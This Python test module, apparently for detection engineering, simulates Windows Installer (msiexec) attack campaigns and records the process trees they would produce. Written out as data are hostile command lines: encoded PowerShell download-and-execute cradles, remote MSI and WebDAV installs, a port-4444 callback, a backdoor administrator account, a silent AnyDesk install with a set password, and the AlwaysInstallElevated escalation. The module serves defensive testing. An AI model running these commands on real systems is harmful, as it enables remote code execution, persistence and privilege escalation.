"""Attacks by way of the Windows Installer: the published tests, campaigns, and what public rules miss.

Each scenario names its model, as reports have it in general: no event is of a real incident. Hosts under ``.example``
and makers are made up. Names of tools are real: attackers bring them along.
"""

from __future__ import annotations

from base64 import b64encode

from tests.company.intrusions import WindowsIntrusion
from tests.company.msi import MSIEXEC
from tests.company.processes import CMD, EDGE, EXPLORER, POWERSHELL, SYSTEM32, Process
from tests.company.settings import ON

_WMI = f"{SYSTEM32}\\wbem\\wmiprvse.exe"
_RUNDLL = f"{SYSTEM32}\\rundll32.exe"
_RUN = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"


def _encoded(text: str) -> str:
    return b64encode(text.encode("utf-16-le")).decode("ascii")


def custom_action_powershell(attack: WindowsIntrusion) -> None:
    """The published test 1: an MSI whose custom action starts PowerShell."""
    path = attack.downloads("Installer_v2.msi")
    run = attack.run(path, "Media Converter", "Alder Digital Ltd", "2.0.1")
    run.client(f'"{MSIEXEC}" /i "{path}" ', attack.known(EXPLORER), level="Medium")
    server = run.server()
    text = f"iwr https://{attack.host}/s -UseBasicParsing | iex"
    command = f"powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand {_encoded(text)}"
    shell = run.action(POWERSHELL, command, server)
    attack.shows("PowerShell with an encoded command below a custom action server")
    attack.after(run)
    attack.place.telemetry.script(attack.place.host, attack.time, text)
    attack.calls(shell)
    attack.ends(run)


def silent_with_tracking(attack: WindowsIntrusion) -> None:
    """The published test 3: a silent installation whose custom action leaves a trace in a file."""
    folder = f"{attack.profile}\\AppData\\Local\\Temp"
    path = f"{folder}\\custom_action_test.msi"
    shell = attack.start(POWERSHELL, "powershell.exe -NoProfile", attack.known(EXPLORER))
    attack.file(shell, path)
    run = attack.run(path, "CustomActionTest", "Test")
    run.client(f'"{MSIEXEC}" /i {path} /qn /l*v {folder}\\msi_install.log', shell)
    command = 'cmd.exe /c "whoami /all > C:\\Windows\\Temp\\custom_action_test.txt"'
    cmd = run.action(CMD, command)
    attack.shows("cmd below the service with a discovery command")
    run.action(f"{SYSTEM32}\\whoami.exe", "whoami /all", cmd)
    attack.after(run)
    attack.file(cmd, "C:\\Windows\\Temp\\custom_action_test.txt")
    attack.ends(run)


def from_url(attack: WindowsIntrusion) -> None:
    """An MSI of a web server by msiexec itself, and its payload as MSIxxxx.tmp [public logs of a meterpreter MSI]."""
    url = f"http://{attack.address}/staterepository"
    office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"
    cmd = attack.start(CMD, f"cmd.exe /c msiexec /q /i {url}", attack.known(office))
    run = attack.run(url, "Foobar 1.0", "Acme Ltd.")
    run.client(f"msiexec /q /i {url}", cmd, level="Medium")
    attack.shows("msiexec with a URL, 1040 with it")
    run.calls(attack.host, port=80, address=attack.address)
    payload = run.temporary()
    started = run.action(payload, f'"{payload}"', system=False)
    attack.after(run)
    attack.calls(started, port=4444)
    attack.ends(run)


def by_wmi(attack: WindowsIntrusion) -> None:
    """Win32_Product installs a package, and no client of msiexec is there [Atomic Red Team, T1218.007]."""
    path = "C:\\Users\\Public\\sync.msi"
    text = "Invoke-CimMethod -ClassName Win32_Product -MethodName Install"
    text += f" -Arguments @{{ PackageLocation = '{path}' }}"
    shell = attack.start(POWERSHELL, f'powershell.exe -nop -c "{text}"', attack.known(CMD), shows="Win32_Product")
    attack.place.telemetry.script(attack.place.host, attack.time, text)
    attack.file(shell, path)
    run = attack.run(path, "Sync Helper", "Bracken Softwares")
    provider = attack.start(_WMI, f"{_WMI} -secured -Embedding", attack.known(f"{SYSTEM32}\\svchost.exe"), root=True)
    run.time = attack.time
    run.begin(provider.pid)
    command = "rundll32.exe C:\\ProgramData\\sync\\core.dll,Start"
    started = run.action(_RUNDLL, command)
    attack.after(run)
    attack.calls(started)
    attack.ends(run)


def transform_from_share(attack: WindowsIntrusion) -> None:
    """A harmless package with a transform of the attacker's, from a share [Elastic: transforms]."""
    path = f"{attack.profile}\\Downloads\\7z2501-x64.msi"
    transform = f"\\\\{attack.address}\\pub\\t.mst"
    run = attack.run(path, "7-Zip 25.01 (x64 edition)", "Igor Pavlov", "25.01.00.0")
    run.client(f'msiexec.exe /i "{path}" TRANSFORMS={transform} /qn', attack.known(CMD))
    attack.shows("a transform of a public address")
    server = run.server()
    script = "C:\\Windows\\Temp\\u.js"
    started = run.action(f"{SYSTEM32}\\wscript.exe", f"wscript.exe //B {script}", server)
    attack.after(run)
    attack.calls(started)
    attack.ends(run)


def over_webdav(attack: WindowsIntrusion) -> None:
    """A script of a browser's download asks the Windows Installer for a package on WebDAV [Latrodectus, 2024]."""
    script = attack.downloads("Document_a51_19i793302.js")
    host = attack.start(f"{SYSTEM32}\\wscript.exe", f'"{SYSTEM32}\\WScript.exe" "{script}"', attack.known(EXPLORER))
    path = f"\\\\{attack.host}@80\\share\\ad.msi"
    run = attack.run(path, "Aclui Tools", "Cobalt Consulting")
    run.begin(host.pid)
    attack.shows("1040 with a WebDAV path")
    dll = f"{attack.profile}\\AppData\\Roaming\\aclui\\aclui.dll"
    run.writes(dll)
    started = run.action(_RUNDLL, f'"{_RUNDLL}" {dll}, edit', run.server(), system=False)
    attack.after(run)
    attack.calls(started)
    attack.ends(run)


def registers_dll(attack: WindowsIntrusion) -> None:
    """Msiexec /y calls DllRegisterServer of any DLL [Atomic Red Team, T1218.007]."""
    dll = f"{attack.profile}\\AppData\\Local\\Temp\\msvcp.dll"
    attack.file(attack.known(POWERSHELL), dll)
    switch = attack.rng.choice(("/y", "-Y", "/Y"))
    started = attack.start(MSIEXEC, f'msiexec.exe {switch} "{dll}"', attack.known(CMD), shows="msiexec with a DLL")
    attack.calls(started)
    attack.start(CMD, 'cmd.exe /c net group "domain admins" /domain', started)


def renamed(attack: WindowsIntrusion) -> None:
    """A renamed copy of msiexec: public rules compare OriginalFileName with a backslash before it."""
    copy = "C:\\Users\\Public\\Libraries\\upd.exe"
    attack.file(attack.known(CMD), copy)
    path = "C:\\Users\\Public\\Libraries\\a.msi"
    run = attack.run(path, "Runtime Update", "Dunmore Ltd")
    run.client(f"{copy} /q /i {path}", attack.known(CMD), image=copy, level="Medium")
    attack.shows("msiexec under another name")
    payload = f"{attack.profile}\\AppData\\Roaming\\rt\\rt.exe"
    run.writes(payload)
    started = run.action(payload, payload, system=False)
    attack.after(run)
    attack.calls(started)
    attack.ends(run)


def netsupport(attack: WindowsIntrusion) -> None:
    """A fake browser update brings NetSupport Manager into the person's folder [FakeUpdates and others]."""
    path = attack.downloads("UpdateSetup.msi")
    run = attack.run(path, "Browser Update", "Elmfield Creative Ltd", "121.0.2")
    run.client(f'"{MSIEXEC}" /i "{path}" ', attack.known(EXPLORER), level="Medium")
    program = f"{attack.profile}\\AppData\\Roaming\\Support\\client32.exe"
    run.writes(program)
    run.sets(f"HKU\\{attack.place.user}\\{_RUN}\\Support", program)
    started = run.action(program, f'"{program}"', system=False)
    attack.shows("client32.exe out of the person's folder, a Run key")
    attack.after(run)
    attack.calls(started)
    attack.ends(run)


def anydesk(attack: WindowsIntrusion) -> None:
    """A fake statement installs AnyDesk with a password of the attacker's [ransomware crews]."""
    path = attack.downloads("Statement_2026.msi")
    run = attack.run(path, "Statement Viewer", "Farrow Engineering", "1.4.0")
    run.client(f'"{MSIEXEC}" /i "{path}" /qn', attack.known(EDGE), level="Medium")
    program = "C:\\ProgramData\\AnyDesk\\AnyDesk.exe"
    run.writes(program)
    cmd = run.action(CMD, f"cmd.exe /c {program} --install C:\\ProgramData\\AnyDesk --start-with-win --silent")
    started = run.action(program, f"{program} --install C:\\ProgramData\\AnyDesk --start-with-win --silent", cmd)
    run.action(CMD, f"cmd.exe /c echo K9mQ2xT7 | {program} --set-password")
    attack.shows("AnyDesk in ProgramData below the service")
    attack.after(run)
    attack.calls(started)
    attack.ends(run)


def always_install_elevated(attack: WindowsIntrusion) -> None:
    """A policy lets everybody install as SYSTEM, and the package opens a shell [T1548; PowerUp]."""
    policy = "SOFTWARE\\Policies\\Microsoft\\Windows\\Installer"
    for hive in ("HKCU", "HKLM"):
        asked = f"reg query {hive}\\{policy} /v AlwaysInstallElevated"
        attack.start(f"{SYSTEM32}\\reg.exe", asked, attack.known(CMD))
    path = f"{attack.profile}\\AppData\\Local\\Temp\\UserAdd.msi"
    run = attack.run(path, "UserAdd", "Glenhall")
    run.client(f"msiexec /quiet /qn /i {path}", attack.known(CMD), level="Medium")
    payload = run.temporary()
    started = run.action(payload, f'"{payload}"')
    adds = "net user backdoor Pa55w0rd! /add"
    cmd = run.action(CMD, f"cmd.exe /c {adds} && net localgroup administrators backdoor /add", started)
    run.action(f"{SYSTEM32}\\net.exe", adds, cmd)
    attack.shows("a shell of SYSTEM below MSIxxxx.tmp")
    attack.ends(run)


def repair_shell(attack: WindowsIntrusion) -> None:
    """A repair's console of SYSTEM opens a browser, and that a shell [CVE-2024-38014]."""
    path = "C:\\Windows\\Installer\\1a2b3c.msi"
    run = attack.run(path, "PDF Tools", "Harwick Software", "9.1.0")
    run.client(f"msiexec.exe /fa {path}", attack.known(CMD), level="Medium")
    server = run.server(elevated=True)
    tool = run.action(f"{SYSTEM32}\\icacls.exe", 'icacls.exe "C:\\Program Files\\PDF Tools" /reset /T', server)
    console = run.action(
        f"{SYSTEM32}\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", tool
    )
    browser = run.action(
        "C:\\Program Files\\Mozilla Firefox\\firefox.exe", "firefox.exe -osint -url about:blank", console
    )
    run.action(CMD, '"C:\\Windows\\System32\\cmd.exe"', browser)
    attack.shows("a browser and a shell of SYSTEM below a repair")
    attack.ends(run, "reconfigure")


def run_key(attack: WindowsIntrusion) -> None:
    """An MSI leaves a Run key and a task that point into the person's folder [Atomic and others]."""
    path = attack.downloads("TaxForms.msi")
    run = attack.run(path, "Tax Forms", "Ivybridge Logistics Ltd", "3.2.0")
    run.client(f'"{MSIEXEC}" /i "{path}" ', attack.known(EXPLORER), level="Medium")
    program = f"{attack.profile}\\AppData\\Roaming\\TaxForms\\updater.exe"
    run.writes(program)
    run.sets(f"HKU\\{attack.place.user}\\{_RUN}\\TaxForms", program)
    task = f'schtasks.exe /Create /F /SC MINUTE /MO 30 /TN TaxForms /TR "{program}"'
    run.action(f"{SYSTEM32}\\schtasks.exe", task, run.server(), system=False)
    attack.shows("a Run key and a task into the person's folder")
    attack.ends(run)
    started: Process = attack.start(program, f'"{program}"', attack.known(EXPLORER))
    attack.calls(started)


def policy_then_install(attack: WindowsIntrusion) -> None:
    """The policy AlwaysInstallElevated is set first, then a package is installed [T1548]."""
    policy = "SOFTWARE\\Policies\\Microsoft\\Windows\\Installer\\AlwaysInstallElevated"
    tool = attack.start(
        f"{SYSTEM32}\\reg.exe",
        "reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\Installer /v AlwaysInstallElevated /t REG_DWORD /d 1 /f",
        attack.known(CMD),
        shows="AlwaysInstallElevated is set",
    )
    attack.place.telemetry.registry(attack.place.host, attack.time, tool, f"HKLM\\{policy}", ON)
    path = f"{attack.profile}\\AppData\\Local\\Temp\\helper.msi"
    run = attack.run(path, "Helper", "Kelso")
    run.client(f"msiexec /i {path} /quiet", attack.known(CMD), level="Medium")
    payload = run.temporary()
    started = run.action(payload, f'"{payload}"')
    run.action(
        POWERSHELL,
        "powershell.exe -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://x')\"",
        started,
    )
    attack.shows("PowerShell of SYSTEM below MSIxxxx.tmp")
    attack.after(run)
    attack.calls(started)
    attack.ends(run)
